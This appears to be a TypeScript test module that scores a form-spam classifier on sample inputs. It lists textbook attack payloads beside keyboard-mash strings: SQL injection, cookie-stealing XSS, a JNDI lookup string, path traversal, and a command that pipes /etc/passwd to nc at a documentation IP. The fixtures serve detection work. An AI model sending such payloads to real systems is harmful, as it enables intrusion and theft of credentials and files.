import { featurize, MODEL_PATH } from "@sift/model";
import { formFields } from "../data/forms.ts";
import { scoreWithModel } from "./submissions.ts";

/**
 * Issue 51's cross-language goal: injection probes and keyboard mash alone in a message field
 * score 0.8 or more. Each text is sent twice, as a bare string and in a contact form beside an
 * ordinary name and address, and scored by the committed ONNX model as the worker scores it.
 * The texts are the payload families' textbook forms and mash typed on three layouts; they are
 * what the rule signals (@sift/model's probes.ts) were written from, so this table shows the
 * rules reach the model's score, not that they generalise (the card's unseen sets and every
 * held-out family's false-positive rate, which the rules also fire on, say that).
 */
export const PROBE_TEXTS: ReadonlyArray<{ kind: string; text: string }> = [
  { kind: "SQL", text: "' OR '1'='1' --" },
  { kind: "SQL", text: "1' UNION SELECT username, password FROM users--" },
  { kind: "SQL", text: "admin'; DROP TABLE members; --" },
  { kind: "SQL", text: "1 AND SLEEP(5)#" },
  { kind: "script", text: "<script>alert(1)</script>" },
  { kind: "script", text: '"><img src=x onerror=alert(document.cookie)>' },
  { kind: "template", text: "{{7*7}}" },
  { kind: "template", text: "${jndi:ldap://198.51.100.7:1389/a}" },
  { kind: "path", text: "../../../../etc/passwd" },
  { kind: "command", text: "; cat /etc/passwd | nc 203.0.113.9 4444" },
  { kind: "mash", text: "asdfghjkl" },
  { kind: "mash", text: "sdfsdfsdf sdfsdf" },
  { kind: "mash", text: "qwertyuiop" },
  { kind: "mash", text: "jkljkljkl hjkhjk" },
  { kind: "random", text: "HcQzRfUJmPbXw" },
  { kind: "random", text: "nVbTyHsKdL xPwQzRtYm" },
];

export interface ProbeScore {
  kind: string;
  text: string;
  alone: number;
  inForm: number;
}

export const scoreProbes = async (modelPath = MODEL_PATH): Promise<ProbeScore[]> => {
  const contents = PROBE_TEXTS.flatMap(({ text }) => [
    text,
    { name: "Daniel Novak", email: "daniel.novak@gmail.com", message: text },
  ]);
  const scores = await scoreWithModel(
    contents.map((c) => featurize(formFields(c))),
    modelPath,
  );
  return PROBE_TEXTS.map((p, i) => ({ ...p, alone: scores[2 * i]!, inForm: scores[2 * i + 1]! }));
};
